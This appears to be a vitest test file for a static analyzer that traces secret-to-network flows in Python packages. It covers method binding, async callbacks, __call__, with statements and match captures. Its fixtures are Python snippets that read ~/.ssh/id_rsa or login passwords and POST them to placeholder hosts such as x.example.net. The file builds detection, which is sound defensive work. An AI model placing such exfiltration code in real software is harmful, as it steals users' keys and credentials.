// How methods are bound and which protocol methods Python runs implicitly
// (@classmethod/@staticmethod, __call__, __enter__), callback runners, and match captures.
import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const KEY = `open(os.path.expanduser("~/.ssh/id_rsa")).read()`;

/** A module that reads the SSH key into `key` and runs `body`. */
async function flows(body: string): Promise<string[]> {
  const facts = await analyze({ "pkg/__init__.py": `import os, asyncio, requests\nkey = ${KEY}\n${body}\n` });
  return flowsOf(facts);
}

const POST = `requests.post("https://x.example.net/in", data=v)`;

describe("method binding", () => {
  it.each([
    ["@classmethod through its class", `class S:\n    @classmethod\n    def ping(cls, v):\n        ${POST}\nS.ping(key)`],
    ["@classmethod through self", `class S:\n    @classmethod\n    def ping(cls, v):\n        ${POST}\n    def go(self, k):\n        self.ping(k)\nS().go(key)`],
    ["@staticmethod through self", `class S:\n    @staticmethod\n    def ping(v):\n        ${POST}\n    def go(self, k):\n        self.ping(k)\nS().go(key)`],
    ["@staticmethod read from an instance", `class S:\n    @staticmethod\n    def ping(v):\n        ${POST}\nf = S().ping\nf(key)`],
    ["@classmethod factory calling cls()", `class S:\n    def __init__(self, v):\n        self.v = v\n    @classmethod\n    def of(cls, v):\n        return cls(v)\n    def send(self):\n        v = self.v\n        ${POST}\nS.of(key).send()`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });

  it("a @classmethod's cls reads class attributes (summarised, not inlined)", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import requests
        class Stats:
            url = "https://stats.example.net/in"
            @classmethod
            def ping(cls, value):
                requests.post(cls.url, data=value)
        def login(host, password):
            import paramiko
            paramiko.SSHClient().connect(host, password=password)
            Stats.ping(password)
      `,
    });
    expect(flowsOf(facts).some((f) => f.includes("https://stats.example.net/in"))).toBe(true);
  });
});

describe("callback runners", () => {
  const SEND = `def send(v, *rest):\n    ${POST}\n`;
  it.each([
    ["asyncio.to_thread(f, x)", `${SEND}async def main():\n    await asyncio.to_thread(send, key)\nasyncio.run(main())`],
    ["loop.call_soon(f, x)", `${SEND}asyncio.get_event_loop().call_soon(send, key)`],
    ["loop.call_soon_threadsafe(f, x)", `${SEND}loop = asyncio.new_event_loop()\nloop.call_soon_threadsafe(send, key, context=None)`],
    ["loop.call_later(delay, f, x)", `${SEND}asyncio.get_event_loop().call_later(2.5, send, key)`],
    ["loop.call_at(when, f, x)", `${SEND}loop = asyncio.get_event_loop()\nloop.call_at(loop.time() + 5, send, key)`],
    ["asyncio.to_thread(requests.post, url, data=x)", `async def main():\n    await asyncio.to_thread(requests.post, "https://x.example.net/in", data=key)\nasyncio.run(main())`],
    ["the value awaited from to_thread is the callback's return", `def load():\n    return ${KEY}\nasync def main():\n    v = await asyncio.to_thread(load)\n    ${POST}\nasyncio.run(main())`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });

  it("to_thread(driver.connect, password=…) shows a secret-named parameter is a login", async () => {
    const source = (login: string) => `
      import asyncio, pymysql, requests
      def report(**fields):
          requests.post("https://stats.example.net/in", json=fields)
      async def connect(host, user, password):
          await asyncio.to_thread(report, host=host, password=password)
          ${login}
    `;
    const sent = await analyze({ "pkg/__init__.py": source("return await asyncio.to_thread(pymysql.connect, host=host, user=user, password=password)") });
    expect(flowsOf(sent).some((f) => f.includes("https://stats.example.net/in"))).toBe(true);
    const unused = await analyze({ "pkg/__init__.py": source("return None") });
    expect(flowsOf(unused)).toEqual([]);
  });
});

describe("calling an instance", () => {
  const SENDER = `class S:\n    def __init__(self, url):\n        self.url = url\n    def __call__(self, v):\n        requests.post(self.url, data=v)\n`;
  it.each([
    ["s = S(); s(x)", `${SENDER}s = S("https://x.example.net/in")\ns(key)`],
    ["S()(x)", `${SENDER}S("https://x.example.net/in")(key)`],
    ["an instance as a thread's target", `import threading\n${SENDER}threading.Thread(target=S("https://x.example.net/in"), args=(key,)).start()`],
    ["__call__ inherited from a base", `${SENDER}class T(S):\n    pass\nT("https://x.example.net/in")(key)`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });

  it("an instance without __call__ is not run", async () => {
    expect(await flows(`class S:\n    def send(self, v):\n        ${POST}\ns = S()\ns(key)`)).toEqual([]);
  });
});

describe("with statements bind what __enter__ returns", () => {
  it.each([
    ["with Box() as v", `class Box:\n    def __enter__(self):\n        return ${KEY}\n    def __exit__(self, *a):\n        return False\nwith Box() as v:\n    ${POST}`],
    ["async with Box() as v (__aenter__)", `class Box:\n    async def __aenter__(self):\n        return ${KEY}\n    async def __aexit__(self, *a):\n        return False\nasync def main():\n    async with Box() as v:\n        ${POST}\nasyncio.run(main())`],
    ["__enter__ returning self keeps the instance", `class Box:\n    def __init__(self, k):\n        self.k = k\n    def __enter__(self):\n        return self\n    def __exit__(self, *a):\n        return False\nwith Box(key) as b:\n    v = b.k\n    ${POST}`],
    ["__enter__ runs without `as`", `class Box:\n    def __init__(self, k):\n        self.k = k\n    def __enter__(self):\n        v = self.k\n        ${POST}\n    def __exit__(self, *a):\n        return False\nwith Box(key):\n    pass`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });
});

describe("match statements bind captured names", () => {
  // The subject through a name: tree-sitter reads `match [...]:` at the start of a line as a subscript.
  const arm = (pattern: string, subject = "key") => `subject = ${subject}\nmatch subject:\n    case ${pattern}:\n        ${POST}`;
  it.each([
    ["case str(v)", arm("str(v)")],
    ["case v (a bare capture)", arm("v")],
    ["case _ as v", arm("_ as v")],
    ["case {\"payload\": v}", arm(`{"payload": v}`, `{"kind": "x", "payload": key}`)],
    ["case {**v}", arm(`{"kind": "x", **v}`, `{"kind": "x", "payload": key}`)],
    ["case [a, *v]", arm("[a, *v]", `["x", "y", key]`)],
    ["case (_, v) with a guard", arm("(_, v) if v", `("x", key)`)],
    ["case Point(x=v) on an instance", `class Point:\n    def __init__(self, x):\n        self.x = x\n${arm("Point(x=v)", "Point(key)")}`],
    ["case A(v) | B(v)", arm("A(v) | B(v)")],
    ["case Point(v) with __match_args__", `class Point:\n    __match_args__ = ("x", "y")\n    def __init__(self, x, y):\n        self.x = x\n        self.y = y\n${arm("Point(_, v)", "Point(1, key)")}`],
    ["a parameter's capture in a summarised function", `def go(c):\n    match c:\n        case str(v):\n            ${POST}\ngo(key)`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
  });

  it.each([
    ["a known dict's other value", arm(`{"kind": v}`, `{"kind": "x", "payload": key}`)],
    ["a known sequence's other element", arm("[v, *rest]", `["x", key]`)],
    ["a dataclass's other positional field", `import dataclasses\n@dataclasses.dataclass\nclass Pair:\n    a: str\n    b: str\n${arm("Pair(v, _)", `Pair("x", key)`)}`],
    ["a value pattern (a dotted name) captures nothing", `import enum\nclass C(enum.Enum):\n    A = 1\nv = "x"\nmatch key:\n    case C.A:\n        ${POST}`],
  ])("not: %s", async (_name, body) => {
    expect(await flows(body)).toEqual([]);
  });
});
